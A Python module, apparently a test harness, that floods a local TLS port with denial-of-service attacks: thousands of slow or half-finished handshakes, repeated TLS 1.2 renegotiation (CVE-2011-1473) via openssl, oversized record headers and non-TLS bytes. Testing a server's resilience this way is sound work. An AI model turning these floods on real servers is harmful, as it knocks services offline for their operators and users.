"""What clients do to a port that speaks TLS. See attacks.py."""
import socket, ssl, subprocess, time


def connect(port):
    s = socket.socket()
    s.settimeout(10)
    s.connect(('127.0.0.1', port))
    return s


def many(count, one):
    """So many of them, without those that are turned away."""
    held = []
    for _ in range(count):
        try:
            held.append(one())
        except OSError:
            pass  # turned away
    return held


class Handshake:
    """A client's side that is done by hand; each of its flights can be held back."""

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE

    def __init__(self, port):
        self.into, self.out = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = self.context.wrap_bio(self.into, self.out, server_hostname='localhost')
        self.socket = connect(port)

    def goes_on(self):
        """Whether the handshake is not done yet; what is to be sent then waits in `out`."""
        try:
            self.tls.do_handshake()
            return False
        except ssl.SSLWantReadError:
            return True

    def close(self):
        self.socket.close()


def slow_handshakes(port):
    """2,000 handshakes whose flights come in pieces, half a second apart."""
    clients = many(2000, lambda: Handshake(port))
    for client in clients:
        client.goes_on()
        client.rest = client.out.read()
    alive = set(clients)

    def to_all(step):
        for client in list(alive):
            try:
                step(client)
            except (OSError, ssl.SSLError):
                alive.discard(client)  # turned away
        time.sleep(0.5)

    def send(client, until):
        client.socket.sendall(client.rest[:until])
        client.rest = client.rest[until:]

    def answer(client):
        client.into.write(client.socket.recv(16384))
        client.goes_on()
        client.rest = client.out.read()
    for until in (3, 40, 20, 10_000):
        to_all(lambda client: send(client, until))
    to_all(answer)
    for until in (3, 20, 10_000):
        to_all(lambda client: send(client, until))
    return clients


def half_handshakes(port):
    """2,000 clients that say their first word, have the server compute its answer, and say no more."""
    def one():
        client = Handshake(port)
        client.goes_on()
        client.socket.sendall(client.out.read())
        return client
    return many(2000, one)


def renegotiations(port):
    """20 clients of TLS 1.2 that ask for a new handshake again and again (CVE-2011-1473)."""
    running = [subprocess.Popen(['openssl', 's_client', '-tls1_2', '-legacy_renegotiation', '-connect', f'127.0.0.1:{port}'],
                                stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) for _ in range(20)]
    time.sleep(1)
    for _ in range(10):
        for client in running:
            try:
                client.stdin.write(b'R\n')
                client.stdin.flush()
            except OSError:
                pass  # turned away
        time.sleep(0.1)
    for client in running:
        client.kill()
        client.wait()
    return []


def oversize_records(port):
    """1,000 records that say to be of 65,535 bytes, and send 60,000 of them."""
    def one():
        s = connect(port)
        s.settimeout(0.2)
        try:
            s.sendall(b'\x16\x03\x01\xff\xff' + bytes(60_000))
        except OSError:
            pass  # turned away
        return s
    return many(1000, one)


def plain_bytes(port):
    """1,000 clients that speak HTTP, or nothing that is known, where TLS is spoken."""
    words = [b'GET / HTTP/1.1\r\nHost: localhost\r\n\r\n', b'\x00' * 4000, b'SSH-2.0-client\r\n', b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n']

    def one():
        s = connect(port)
        s.sendall(words[s.fileno() % len(words)])
        return s
    return many(1000, one)


ATTACKS = (slow_handshakes, half_handshakes, renegotiations, oversize_records, plain_bytes)
